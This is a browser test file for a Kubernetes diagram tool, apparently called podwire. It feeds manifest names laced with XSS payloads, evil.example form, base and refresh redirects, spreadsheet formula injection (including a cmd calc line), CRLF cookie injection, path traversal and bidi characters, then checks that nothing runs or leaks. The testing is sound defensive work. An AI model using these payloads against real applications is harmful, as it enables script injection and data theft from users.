// Whatever an upload calls things, it is text: in every face, in a real browser, nothing of it runs and nothing breaks out.
import * as podwire from './podwire.mjs';

const { test, expect } = podwire;

const RUNS = 'globalThis.pwned=(globalThis.pwned||0)+1';
const NAMES = [
  `<script>${RUNS}</script>`,
  `"><img src=x onerror="${RUNS}">`,
  `'><svg onload='${RUNS}'>`,
  `</text></svg><script>${RUNS}</script>`,
  `</title></style></textarea></script><script>${RUNS}</script>`,
  `]]><script>${RUNS}</script>`,
  `javascript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `<a href="javascript:${RUNS}">x</a>`,
  `<iframe srcdoc="<script>${RUNS}</script>"></iframe>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<form action="//evil.example/"><input name=token>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `{{7*7}}\${7*7}<%=7*7%>`,
  `=HYPERLINK("http://evil.example/","x")`,
  `+1+cmd|' /C calc'!A0`,
  `-1+1`,
  `@SUM(1)`,
  `\t=1+1`,
  `a\r\nSet-Cookie: pwned=1\r\n\r\n<script>${RUNS}</script>`,
  `a"]; b [label="x" URL="javascript:${RUNS}"]; //`,
  `a"] --> b; click a "javascript:${RUNS}"`,
  `%%{init: {"securityLevel":"loose"}}%%`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `\u202Egnp.yaml`,
  `a\u2066b\u2069\u200Bc\uFEFF`,
  `\u001B]0;pwned\u0007\u001B[31mred`,
  `\u0000\u0001\u0008\u007F\u0085`,
];
// Of these nothing may be left in what is looked at: they hide, move or turn what stands beside them.
const UNSEEN = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200B-\u200F\u2028-\u202E\u2060-\u2069\uFEFF]/;

const quoted = (text) => JSON.stringify(text);
const objects = (name, at) => {
  const [n, other] = [quoted(name), quoted(NAMES[(at + 1) % NAMES.length])];
  return `---
apiVersion: v1
kind: Service
metadata: {name: ${n}, namespace: ${other}, labels: {${n}: ${n}}, annotations: {${n}: ${n}, podwire.dev/ignore: ${n}}}
spec: {type: NodePort, selector: {${n}: ${n}}, externalIPs: [${n}], ports: [{name: ${n}, port: ${at + 1}, targetPort: ${n}, nodePort: ${30000 + at}, appProtocol: ${n}}]}
status: {loadBalancer: {ingress: [{hostname: ${n}}]}}
---
apiVersion: v1
kind: Pod
metadata: {name: ${n}, namespace: ${other}, labels: {${n}: ${n}}}
spec: {nodeName: ${n}, containers: [{name: ${n}, image: ${n}, ports: [{name: ${n}, containerPort: ${8000 + at}}]}]}
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: ${n}, namespace: ${other}}
spec: {ingressClassName: ${n}, tls: [{hosts: [${n}]}], rules: [{host: ${n}, http: {paths: [{path: ${n}, pathType: ${n}, backend: {service: {name: ${n}, port: {name: ${n}}}}}]}}]}
---
apiVersion: ${n}
kind: ${n}
metadata: {name: ${n}}
${n}: ${n}
`;
};
const text = NAMES.map(objects).join('');

/** Counts what ran or was refused by the page's own policy. */
async function watch(page) {
  const dialogs = [];
  page.on('dialog', (dialog) => { dialogs.push(dialog.message()); dialog.dismiss(); });
  await page.addInitScript(() => {
    globalThis.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => { globalThis.refused.push(`${event.violatedDirective} ${event.blockedURI}`); });
  });
  return async (what) => {
    const seen = await page.evaluate(() => ({
      ran: globalThis.pwned ?? 0,
      refused: globalThis.refused ?? [],
      strange: [...document.querySelectorAll('img, iframe, object, embed, base, foreignObject, meta[http-equiv], script:not([src]):not([type="application/json"]), [onload], [onerror], [onclick], a[href^="javascript:" i], a[href^="data:" i], form[action*="//"]')].map((element) => element.outerHTML.slice(0, 200)),
      hrefs: [...document.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? a.getAttribute('xlink:href') ?? '').filter((href) => !/^(\/|\?|#|$|https:\/\/(kubernetes|gateway-api|github|podwire))/.test(href) && !href.startsWith(location.origin)),
      words: document.documentElement.textContent,
      cookies: document.cookie,
    }));
    expect(dialogs, what).toEqual([]);
    expect(seen.ran, `${what}: scripts that ran`).toBe(0);
    expect(seen.refused, `${what}: what the policy had to refuse`).toEqual([]);
    expect(seen.strange, `${what}: elements of the upload's making`).toEqual([]);
    expect(seen.hrefs, `${what}: links of the upload's making`).toEqual([]);
    expect(seen.cookies, what).toBe('');
    return seen.words;
  };
}

test('the page with what is typed, the inspector, the share dialog and what it becomes', async ({ page }) => {
  test.slow();
  const look = await watch(page);
  await podwire.open(page);
  await podwire.write(page, text);
  await expect(podwire.board(page)).toContainText('script', { timeout: 20_000 });
  await look('the board');
  await page.locator('#share').click();
  await page.locator('.masked-text summary').click();
  expect(await page.locator('.masked-text pre').first().textContent()).not.toBe('');
  await look('the share dialog');
  await page.locator('#share-now').click();
  await expect(page.locator('#share-link')).toBeVisible();
  await look('the dialog with the link');
});

test('files of such names, without JavaScript as well', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ javaScriptEnabled: false, baseURL });
  const page = await context.newPage();
  await page.goto('/');
  const files = NAMES.filter((name) => !/[\u0000-\u001F\u007F-\u009F]/.test(name)).map((name) => ({ name: `${name.replaceAll('/', '∕')}.yaml`, mimeType: 'application/yaml', buffer: Buffer.from('apiVersion: v1\nkind: Service\nmetadata: {name: web}\nspec: {ports: [{port: 80}]}\n') }));
  await page.locator('#files').setInputFiles(files);
  await podwire.drawButton(page).click();
  expect(await page.locator('img, iframe, object, embed, script:not([src]):not([type="application/json"])').count()).toBe(0);
  await expect(podwire.board(page)).toContainText('web');
  await context.close();
});

test('every face of a shared diagram', async ({ page, request }) => {
  test.slow();
  const look = await watch(page);
  const { url } = await podwire.keep(request, text);
  for (const face of ['', '?embed=1', '?broken=1', '?trace=node:30001', `?at=${encodeURIComponent(NAMES[0])}`, `?trace=${encodeURIComponent(NAMES[1])}`, `?find=${encodeURIComponent(NAMES[2])}`]) {
    await page.goto(url + face);
    const words = await look(face || 'the page');
    expect(UNSEEN.exec(words)?.[0].codePointAt(0).toString(16), `${face}: what hides or turns its neighbours`).toBe(undefined);
  }
  // A picture that stands alone is in a sandbox, where not even a test may look: it is read in an empty page instead.
  await page.goto('about:blank');
  for (const face of ['.svg', '.svg?theme=dark', '.svg?theme=light&find=svg', '/badge.svg']) {
    const answer = await request.get(url + face);
    expect(answer.headers()['content-security-policy'], face).toContain('sandbox');
    const found = await page.evaluate((svg) => {
      const picture = new DOMParser().parseFromString(svg, 'image/svg+xml');
      const strange = [...picture.querySelectorAll('script, foreignObject, image, iframe, parsererror, [onload], [onerror], [onclick]')].map((element) => element.outerHTML.slice(0, 200));
      return { strange, words: picture.documentElement.textContent };
    }, await answer.text());
    expect(found.strange, face).toEqual([]);
    expect(UNSEEN.test(found.words), `${face}: what hides or turns its neighbours`).toBe(false);
  }
  for (const face of ['.txt', '.mmd', '.dot', '.json', '/nowhere']) {
    await page.goto(url + face);
    await look(face);
  }
  // All of them are too many for pixels.
  const few = await podwire.keep(request, NAMES.slice(0, 4).map(objects).join(''));
  for (const face of ['.png', '.png?theme=dark', '/preview.png']) {
    const answer = await request.get(few.url + face);
    expect(answer.headers(), face).toMatchObject({ 'content-type': 'image/png', 'x-content-type-options': 'nosniff' });
    const width = await page.evaluate(async (bytes) => (await createImageBitmap(new Blob([new Uint8Array(bytes)]))).width, [...await answer.body()]);
    expect(width, face).toBeGreaterThan(100);
  }
  const masked = await request.get(`${url}.yaml`);
  expect(masked.headers(), 'the masked text').toMatchObject({ 'content-type': /^(text\/plain|application\/yaml)/, 'x-content-type-options': 'nosniff' });
  await page.setContent(`<pre></pre>`);
  await page.evaluate((text) => { document.querySelector('pre').textContent = text; }, await masked.text());
  await look('.yaml');
});

test('each thing on the board, selected', async ({ page, request }) => {
  test.slow();
  const look = await watch(page);
  const { url } = await podwire.keep(request, NAMES.slice(0, 8).map(objects).join(''));
  await page.goto(url);
  const places = [...new Set(await podwire.jacks(page).evaluateAll((jacks) => jacks.map((jack) => jack.dataset.at)))];
  expect(places.length).toBeGreaterThan(8);
  for (const at of places.slice(0, 25)) {
    await page.goto(`${url}?at=${encodeURIComponent(at)}`);
    await look(at);
  }
});

test('no cell of the table is a formula, and no header is split', async ({ request }) => {
  const { url } = await podwire.keep(request, text);
  const answer = await request.get(`${url}.csv`);
  const cells = [...(await answer.text()).matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map((found) => found[1] ?? found[2] ?? '');
  expect(cells.length).toBeGreaterThan(100);
  expect(cells.filter((cell) => /^[=+@\t\r]|^-[^0-9]?[^ ]*[+(]/.test(cell))).toEqual([]);
  for (const face of ['', '.csv', '.yaml', '.svg']) {
    const headers = (await request.get(url + face)).headers();
    expect(headers['set-cookie']).toBe(undefined);
    expect(headers['content-disposition'] ?? '').not.toContain('pwned');
  }
});
